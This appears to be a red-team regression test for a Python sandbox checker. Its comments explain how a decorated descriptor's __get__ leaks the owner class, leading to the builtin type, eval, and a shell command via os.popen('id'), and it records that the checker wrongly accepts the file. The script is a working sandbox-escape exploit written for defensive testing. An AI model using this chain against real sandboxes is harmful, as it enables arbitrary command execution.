# expect: reject unbound
# line: 37
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family C: what a class body binds under a name through which the interpreter hands over a class (@classmethod, __init_subclass__, __set_name__, __get__) is not the def the rule judges: a decorator's result or a class statement (the red team's program, ok_18)
# Mechanism: a descriptor's __get__(self, obj, owner) receives the owner class on Q.d; 
# received_libclass judges the owner parameter of the def only. Decorated by a program decorator, 
# __get__ is inner(*a), which receives (desc, None, Q) for class Q(collections.Counter) and keeps 
# it; box[0][2].copy(P) = Counter.copy(P) = the builtin type. No dunder name is given to a builtin 
# at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing


class P:
    pass


box = []


def deco(f):
    def inner(*a):
        box.append(a)
        return 0
    return inner


class Desc:
    @deco
    def __get__(self, obj, owner=None):
        return 0


class Q(collections.Counter):
    d = Desc()


Q.d
T = box[0][2].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
